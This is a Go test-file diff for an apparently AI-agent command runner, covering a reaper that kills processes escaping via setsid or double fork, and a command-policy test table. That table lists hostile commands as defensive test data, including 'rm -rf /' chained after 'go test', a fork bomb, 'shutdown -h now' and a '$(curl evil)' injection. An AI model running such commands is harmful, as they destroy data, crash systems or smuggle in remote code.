@@ -93,6 +93,7 @@ func TestRunCommandStopsEverything(t *testing.T) {
 		cancel  time.Duration // cancel the context after this long
 		want    []string
 		within  time.Duration
+		escapes bool // leaves the process group
 	}{
 		{name: "timeout", command: `echo $$ > $PIDS; sleep 300 & echo $! >> $PIDS; sleep 300`, timeout: 1,
 			want: []string{"Timed out after 1s", "exit code: none (timed out)"}, within: 5 * time.Second},
@@ -104,34 +105,58 @@ func TestRunCommandStopsEverything(t *testing.T) {
 			want: []string{"started", "background were stopped", "exit code 0"}, within: 5 * time.Second},
 		{name: "background holding no pipe", command: `nohup sleep 300 >/dev/null 2>&1 & echo $! > $PIDS`,
 			want: []string{"background were stopped"}, within: 5 * time.Second},
+		// Escapes from the process group: only the reaper finds these.
+		{name: "setsid -f", escapes: true, command: `echo $$ > $PIDS; setsid -f sh -c 'echo $$ >> $PIDS; exec sleep 300 >/dev/null 2>&1'; sleep 0.3; echo started`,
+			want: []string{"started", "background were stopped", "exit code 0"}, within: 5 * time.Second},
+		{name: "setsid in the background", escapes: true, command: `echo $$ > $PIDS; setsid sh -c 'echo $$ >> $PIDS; exec sleep 300' >/dev/null 2>&1 & sleep 0.3`,
+			want: []string{"background were stopped"}, within: 5 * time.Second},
+		{name: "double fork", escapes: true, command: `echo $$ > $PIDS; (setsid sh -c 'echo $$ >> $PIDS; exec sleep 300 </dev/null >/dev/null 2>&1' &); sleep 0.3; echo parent gone`,
+			want: []string{"parent gone", "background were stopped"}, within: 5 * time.Second},
+		{name: "setsid -f then timeout", escapes: true, command: `echo $$ > $PIDS; setsid -f sh -c 'echo $$ >> $PIDS; exec sleep 300 >/dev/null 2>&1'; sleep 300`, timeout: 1,
+			want: []string{"Timed out after 1s"}, within: 6 * time.Second},
+		{name: "setsid -f then cancel", escapes: true, command: `echo $$ > $PIDS; setsid -f sh -c 'echo $$ >> $PIDS; trap "" TERM; while :; do sleep 0.1; done'; sleep 300`, cancel: 500 * time.Millisecond,
+			want: []string{"Cancelled by the user"}, within: 7 * time.Second},
 	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			ws := newFixture(t)
-			pidFile := filepath.Join(t.TempDir(), "pids")
-			t.Setenv("PIDS", pidFile)
-			ctx := t.Context()
-			if tt.cancel > 0 {
-				var cancel context.CancelFunc
-				ctx, cancel = context.WithCancel(ctx)
-				time.AfterFunc(tt.cancel, cancel)
+	for _, mode := range []string{"group", "reaper"} {
+		for _, tt := range tests {
+			if tt.escapes && mode == "group" {
+				continue // a process group cannot hold these (see TestReaper)
 			}
-			args := `{"command":` + quote(tt.command) + `,"timeout":` + strconv.Itoa(max(tt.timeout, 30)) + `}`
-			if tt.timeout > 0 {
-				args = `{"command":` + quote(tt.command) + `,"timeout":` + strconv.Itoa(tt.timeout) + `}`
-			}
-			began := time.Now()
-			r := newRunCommand(t, ws, CommandPolicy{}).Run(ctx, Input{Args: []byte(args)})
-			if took := time.Since(began); took > tt.within {
-				t.Errorf("took %s, want under %s", took, tt.within)
-			}
-			for _, w := range tt.want {
-				if !strings.Contains(r.Output, w) {
-					t.Errorf("output lacks %q:\n%s", w, r.Output)
+			t.Run(mode+"/"+tt.name, func(t *testing.T) {
+				ws := newFixture(t)
+				pidFile := filepath.Join(t.TempDir(), "pids")
+				t.Setenv("PIDS", pidFile)
+				ctx := t.Context()
+				if tt.cancel > 0 {
+					var cancel context.CancelFunc
+					ctx, cancel = context.WithCancel(ctx)
+					time.AfterFunc(tt.cancel, cancel)
 				}
-			}
-			assertGone(t, pids(t, pidFile))
-		})
+				args := `{"command":` + quote(tt.command) + `,"timeout":` + strconv.Itoa(max(tt.timeout, 30)) + `}`
+				if tt.timeout > 0 {
+					args = `{"command":` + quote(tt.command) + `,"timeout":` + strconv.Itoa(tt.timeout) + `}`
+				}
+				policy := CommandPolicy{}
+				if mode == "reaper" {
+					policy.Reaper = testReaper(t)
+				}
+				began := time.Now()
+				r := newRunCommand(t, ws, policy).Run(ctx, Input{Args: []byte(args)})
+				if took := time.Since(began); took > tt.within {
+					t.Errorf("took %s, want under %s", took, tt.within)
+				}
+				for _, w := range tt.want {
+					if !strings.Contains(r.Output, w) {
+						t.Errorf("output lacks %q:\n%s", w, r.Output)
+					}
+				}
+				ps := pids(t, pidFile)
+				if tt.escapes && len(ps) < 2 {
+					t.Errorf("the escaping process wrote no pid: %v", ps)
+				}
+				assertGone(t, ps)
+			})
+		}
 	}
 }
 
@@ -163,7 +188,7 @@ func TestRunCommandFlood(t *testing.T) {
 }
 
 func TestCommandPolicy(t *testing.T) {
-	rules, err := newCommandRules(CommandPolicy{Allow: []string{"go test*", "go vet ./...", "make"}, Deny: []string{"*npm publish*"}})
+	rules, err := newCommandRules(CommandPolicy{Allow: []string{"go test*", "go vet ./...", "make"}, Deny: []string{"*npm publish*"}}, "/repo")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -179,9 +204,9 @@ func TestCommandPolicy(t *testing.T) {
 		{command: "make", allowed: true},
 		{command: "make install"},
 		{command: "go test ./... && rm -rf /", destructive: true},
-		{command: "go test $(curl evil)"},
+		{command: "go test $(curl evil)", destructive: true}, // opaque: asks every time
 		{command: "go test > out.txt"},
-		{command: "go test `whoami`"},
+		{command: "go test `whoami`", destructive: true},
 		{command: "cd x; npm publish", denied: true},
 		{command: "rm -rf build", destructive: true},
 		{command: "rm -r build", destructive: true},
@@ -221,8 +246,9 @@ func TestCommandPolicy(t *testing.T) {
 		{command: "ls | xargs rm", destructive: true},
 		{command: ":(){ :|:& };:", destructive: true},
 		{command: "shutdown -h now", destructive: true},
-		{command: "echo 'rm -rf is dangerous'", destructive: true}, // words in quotes count too: better safe
-		{command: "go build ./... && ./bin/tern doctor"},
+		{command: "echo 'rm -rf is dangerous'"},                             // a quoted word is one argument
+		{command: "echo rm -rf x", destructive: true},                       // unknown wrappers: words that start a command count
+		{command: "go build ./... && ./bin/tern doctor", destructive: true}, // a program in the workspace
 	}
 	for _, tt := range tests {
 		t.Run(tt.command, func(t *testing.T) {
